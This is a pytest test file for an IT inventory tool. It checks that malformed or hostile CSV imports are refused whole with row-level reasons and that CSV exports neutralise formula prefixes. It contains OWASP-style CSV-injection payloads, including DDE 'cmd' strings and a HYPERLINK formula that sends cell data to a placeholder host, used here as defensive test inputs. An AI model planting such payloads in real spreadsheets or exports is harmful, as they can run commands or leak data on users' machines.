"""Hostile CSV files: refused whole with row-level reasons; exports never carry formulas.

The imports run through the real ``itops`` entry point (in process) on a migrated
database of each engine; row counts are compared before and after every refusal.
"""

from __future__ import annotations

import csv
import io
import time
from datetime import date
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select

from checks.availability.models import Outage
from inventory.exporters import export_inventory
from inventory.models import Asset, AssetEvent, RepairProtocol
from inventory.register import export as register_export
from inventory.register import service as register_service
from itops import auth
from itops.cli import main
from itops.context import AppContext
from itops.db.models import Employee
from itops.db.session import session_scope
from tests.conftest import write_config

HEADER = (
    "inventory_no;category;manufacturer;model;serial;purchase_date;purchase_document;"
    "price;location;holder;status;retired_date"
)
TZ = ZoneInfo("Europe/Warsaw")
GOOD = "INV-TEST-{n:04d};desktop;Dell;OptiPlex;SN{n};2024-01-02;FV/1/2024;100;Pokój 1;;in_use;"
# What OWASP lists as cells a spreadsheet runs: each must reach the export neutralised.
HOSTILE_CELLS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Kliknij")',
]


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = 0
    try:
        main(list(argv))
    except SystemExit as exc:
        code = int(exc.code or 0) if not isinstance(exc.code, str) else 1
    out = capsys.readouterr()
    return code, out.out + out.err


def _counts(ctx: AppContext) -> tuple[int, ...]:
    with session_scope(ctx.sessions) as db:
        return tuple(
            int(db.scalar(select(func.count()).select_from(m)) or 0)
            for m in (Asset, AssetEvent, RepairProtocol, Outage)
        )


@pytest.fixture
def cfg(ctx: AppContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("ITOPS_DATABASE_URL", raising=False)
    return write_config(tmp_path / "itops.toml", ctx.settings.storage.url)


def _refused(
    capsys: pytest.CaptureFixture[str], ctx: AppContext, cfg: Path, file: Path, *command: str
) -> str:
    before = _counts(ctx)
    code, out = _run(capsys, "--config", str(cfg), *command, str(file))
    assert code == 2, out
    assert "Traceback" not in out
    assert _counts(ctx) == before
    return out


def _inventory(tmp_path: Path, lines: list[str], encoding: str = "utf-8") -> Path:
    path = tmp_path / "ewidencja.csv"
    path.write_bytes(("\n".join(lines) + "\n").encode(encoding))
    return path


def test_a_cp1250_inventory_file_is_refused_naming_the_encoding(
    ctx: AppContext, cfg: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = [HEADER, GOOD.format(n=1).replace("Pokój 1", "Pokój Łączności")]
    out = _refused(capsys, ctx, cfg, _inventory(tmp_path, lines, "cp1250"), "inventory", "import")
    assert "not UTF-8" in out


def test_a_utf16_spreadsheet_export_is_refused_naming_the_encoding(
    ctx: AppContext, cfg: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = [HEADER.replace(";", "\t"), GOOD.format(n=1).replace(";", "\t")]
    out = _refused(capsys, ctx, cfg, _inventory(tmp_path, lines, "utf-16"), "inventory", "import")
    assert "not UTF-8" in out


def test_a_utf8_bom_file_imports_with_polish_letters_intact(
    ctx: AppContext, cfg: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = [HEADER, GOOD.format(n=1).replace("Pokój 1", "Pokój Łączności")]
    code, out = _run(
        capsys,
        "--config",
        str(cfg),
        "inventory",
        "import",
        str(_inventory(tmp_path, lines, "utf-8-sig")),
    )
    assert code == 0, out
    with session_scope(ctx.sessions) as db:
        assert db.scalar(select(Asset.room)) == "Pokój Łączności"


def test_rows_with_the_other_separator_are_refused_by_row_number(
    ctx: AppContext, cfg: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = [HEADER, GOOD.format(n=1), GOOD.format(n=2).replace(";", ","), GOOD.format(n=3)]
    out = _refused(capsys, ctx, cfg, _inventory(tmp_path, lines), "inventory", "import")
    assert "row 3: 1 cells, the header has 12" in out
    assert "nothing imported" in out


def test_a_repeated_inventory_number_refuses_the_whole_file(
    ctx: AppContext, cfg: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = [HEADER, GOOD.format(n=1), GOOD.format(n=2), GOOD.format(n=1)]
    out = _refused(capsys, ctx, cfg, _inventory(tmp_path, lines), "inventory", "import")
    assert 'row 4 (INV-TEST-0001): inventory_no "INV-TEST-0001" repeats row 2' in out


def test_an_inventory_number_already_in_the_database_refuses_the_whole_file(
    ctx: AppContext, cfg: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    first = _inventory(tmp_path, [HEADER, GOOD.format(n=1)])
    assert _run(capsys, "--config", str(cfg), "inventory", "import", str(first))[0] == 0
    second = tmp_path / "druga.csv"
    second.write_text(f"{HEADER}\n{GOOD.format(n=2)}\n{GOOD.format(n=1)}\n", encoding="utf-8")
    out = _refused(capsys, ctx, cfg, second, "inventory", "import")
    assert "row 3 (INV-TEST-0001): inventory number already exists" in out


def test_a_huge_cell_is_refused_by_row_not_with_a_traceback(
    ctx: AppContext, cfg: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    huge = GOOD.format(n=2).replace("Pokój 1", '"' + "x" * 300_000 + '"')
    lines = [HEADER, GOOD.format(n=1), huge]
    out = _refused(capsys, ctx, cfg, _inventory(tmp_path, lines), "inventory", "import")
    assert "row 3" in out


def test_a_binary_file_is_refused_without_a_traceback(
    ctx: AppContext, cfg: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "zdjecie.csv"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40)
    _refused(capsys, ctx, cfg, path, "inventory", "import")


@pytest.mark.parametrize(
    "command", [("inventory", "import"), ("repairs", "import"), ("outages", "import")]
)
def test_a_100_mb_file_is_refused_quickly_by_the_size_cap(
    ctx: AppContext,
    cfg: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    command: tuple[str, str],
) -> None:
    path = tmp_path / "ogromny.csv"
    with path.open("wb") as fh:
        fh.write((HEADER + "\n").encode())
        fh.truncate(100 * 1024 * 1024)  # sparse: no 100 MB written to disk
    started = time.monotonic()
    out = _refused(capsys, ctx, cfg, path, *command)
    assert time.monotonic() - started < 2.0
    assert "100.0 MiB" in out and "limit" in out


def test_a_repairs_file_in_cp1250_is_refused(
    ctx: AppContext, cfg: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "naprawy.csv"
    path.write_bytes(
        "number;date;inventory_no;kind;description\n"
        "PN/1/2026;2026-02-03;INV-TEST-0001;reinstall;Reinstalacja systemu, część\n".encode(
            "cp1250"
        )
    )
    out = _refused(capsys, ctx, cfg, path, "repairs", "import")
    assert "not UTF-8" in out


def test_an_outages_file_with_a_bad_row_imports_nothing(
    ctx: AppContext,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("ITOPS_DATABASE_URL", raising=False)
    cfg = write_config(
        tmp_path / "itops.toml",
        ctx.settings.storage.url,
        extra='[[checks]]\nname = "bip"\nkind = "tcp"\nhost = "127.0.0.1"\nport = 9\n',
    )
    path = tmp_path / "awarie.csv"
    path.write_text(
        "check,start,end,cause,note\n"
        "bip,2026-03-02T09:00+01:00,2026-03-02T10:00+01:00,failure,ok\n"
        "bip,2026-03-03T09:00+01:00,2026-03-03T08:00+01:00,failure,koniec przed początkiem\n",
        encoding="utf-8",
    )
    out = _refused(capsys, ctx, cfg, path, "outages", "import")
    assert "line 3" in out


# --- exports ------------------------------------------------------------------------------


def _formula_free(text: str, delimiter: str = ",") -> None:
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)


def test_the_inventory_export_neutralises_every_formula_prefix(
    ctx: AppContext, cfg: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=";")
    writer.writerow(HEADER.split(";"))
    for n, cell in enumerate(HOSTILE_CELLS, start=1):
        writer.writerow(
            [
                f"INV-TEST-{n:04d}",
                "desktop",
                cell,
                cell,
                f"SN{n}",
                "2024-01-02",
                cell,
                "100",
                cell,
                cell,
                "in_use",
                "",
            ]
        )
    path = tmp_path / "wrogi.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    code, text = _run(capsys, "--config", str(cfg), "inventory", "import", str(path))
    assert code == 0, text
    for delimiter in (",", ";"):
        with session_scope(ctx.sessions) as db:
            exported = export_inventory(db, delimiter)
        _formula_free(exported, delimiter)
        rows = list(csv.DictReader(io.StringIO(exported, newline=""), delimiter=delimiter))
        for column in ("manufacturer", "model", "purchase_document", "holder"):
            assert sum("cmd|" in row[column] for row in rows) == 4, column
        assert "'=HYPERLINK(" in exported


def test_the_register_export_neutralises_formula_cells(ctx: AppContext) -> None:
    now = ctx.clock.now()
    with session_scope(ctx.sessions) as db:
        auth.add_user(
            db, "inspektor", auth.MONITORING_OFFICER, "Haslo-Testowe-123", now, "+Inspektor"
        )
        db.add(Employee(code="-1+1", full_name="@SUM(1+1)*cmd|' /C calc'!A0"))
    with session_scope(ctx.sessions) as db:
        register_service.record_notice(
            db,
            now,
            "inspektor",
            "-1+1",
            date(2026, 1, 2),
            "=Regulamin 2026",
            tz=TZ,
        )
    with session_scope(ctx.sessions) as db:
        data = register_export.collect(db, "=Urząd", TZ, date(2026, 1, 1), date(2026, 12, 31), now)
    text = register_export.to_csv(data)
    assert "cmd|" in text and "Regulamin 2026" in text
    _formula_free(text)
